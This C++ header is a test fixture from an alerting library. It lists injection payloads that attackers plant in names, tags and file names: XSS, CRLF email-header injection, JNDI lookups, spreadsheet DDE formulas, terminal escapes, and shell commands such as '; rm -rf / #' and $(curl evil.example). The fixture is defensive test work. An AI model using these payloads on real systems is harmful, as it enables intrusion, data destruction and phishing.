// What attackers write into names, tags, user agents and file names, for tests that nothing of it is alive in a message.
#pragma once

#include <array>
#include <string_view>

namespace tocsin::sink::testing {

using namespace std::string_view_literals;

inline constexpr std::array kInjections = {
    // Lines that pretend to be headers or other alerts.
    "x\r\nBcc: evil@example.com"sv,
    "x\nX-Injected: 1"sv,
    "x\rSubject: all clear"sv,
    "x\r\n\r\n<b>body</b>"sv,
    "x\xE2\x80\xA8"
    "Bcc: evil@example.com"sv,
    "x\xE2\x80\xA9next"sv,
    "x\x0B\x0Cx"sv,
    "x\xC2\x85next"sv,
    "%0d%0aBcc:evil@example.com"sv,
    "=?utf-8?q?evil?="sv,
    "--=_boundary--"sv,
    ".\r\nQUIT\r\n"sv,
    // HTML, and what mail programs and browsers make of it.
    "<script>alert(1)</script>"sv,
    "<img src=x onerror=alert(1)>"sv,
    "<svg/onload=alert(1)>"sv,
    "\"><a href=https://evil.example>x</a>"sv,
    "'\"><iframe src=//evil.example>"sv,
    "<a href=\"javascript:alert(1)\">x</a>"sv,
    "<!--"sv,
    "</td></table></body>"sv,
    "<style>*{display:none}</style>"sv,
    "&lt;script&gt;"sv,
    "<form action=https://evil.example>"sv,
    "<base href=//evil.example>"sv,
    "<meta http-equiv=refresh content=0>"sv,
    // Mentions.
    "<!channel>"sv,
    "<!here|here>"sv,
    "<!everyone>"sv,
    "<@U0123456>"sv,
    "<#C0123456|general>"sv,
    "<!subteam^S01234|ops>"sv,
    "<!date^1392734382^x^https://evil.example|x>"sv,
    "@everyone"sv,
    "@here"sv,
    "@channel"sv,
    "<@&123456789012345678>"sv,
    "<@!123456789012345678>"sv,
    "<at>everyone</at>"sv,
    "<users/all>"sv,
    "<t:1618953630:R>"sv,
    "<:bell:123456789012345678>"sv,
    // Links and markup.
    "<https://evil.example|Open in the console>"sv,
    "[Open in the console](https://evil.example)"sv,
    "![x](https://evil.example/x.png)"sv,
    "[x][1]\n\n[1]: https://evil.example"sv,
    "*bold* _italic_ ~struck~"sv,
    "**bold** __under__ ||spoiler||"sv,
    "`code`"sv,
    "```\nblock\n```"sv,
    "# heading"sv,
    "> quote"sv,
    "- item"sv,
    "</pre></code><b>x"sv,
    ":rotating_light: :100:"sv,
    "https://evil.example/login"sv,
    "tg://user?id=1"sv,
    "{{DATE(2026-01-01)}} ${jndi:ldap://evil.example/x}"sv,
    "{title} %s %n %x"sv,
    // What one sees is not what is there.
    "\xE2\x80\xAEtxt.exe"sv,
    "\xE2\x81\xA6isolate\xE2\x81\xA9"sv,
    "a\xE2\x80\x8B\xE2\x80\x8D\xEF\xBB\xBF"
    "b"sv,
    "\xE2\x80\x8F\xD8\xA7"sv,
    "\xF3\xA0\x81\x81\xF3\xA0\x81\x82 tags"sv,
    "p\xD0\xB0ypal"sv,
    // Terminals.
    "\x1B[2J\x1B[31mred"sv,
    "\x1B]0;title\x07"sv,
    "\x1B]8;;https://evil.example\x1B\\x"sv,
    "\xC2\x9B"
    "31mred"sv,
    "a\x08\x08\x08"
    "b\x7F"sv,
    "x\0y"sv,
    // Spreadsheets.
    "=HYPERLINK(\"https://evil.example\",\"x\")"sv,
    "+1+cmd|' /C calc'!A0"sv,
    "-2+3"sv,
    "@SUM(1)"sv,
    "\t=1+1"sv,
    // JSON, broken UTF-8, shells.
    "\"}],\"injected\":true,\"x\":[{\"y\":\""sv,
    "\\\",\\u0022"sv,
    "\\"sv,
    "\xFF\xFE\xC0\xAF"sv,
    "\xED\xA0\x80"sv,
    "\xF4\x90\x80\x80"sv,
    "'; rm -rf / #"sv,
    "$(curl evil.example)"sv,
    "`id`"sv,
    ""sv,
    " "sv,
    "null"sv,
};
static_assert(kInjections.size() >= 60);

}  // namespace tocsin::sink::testing
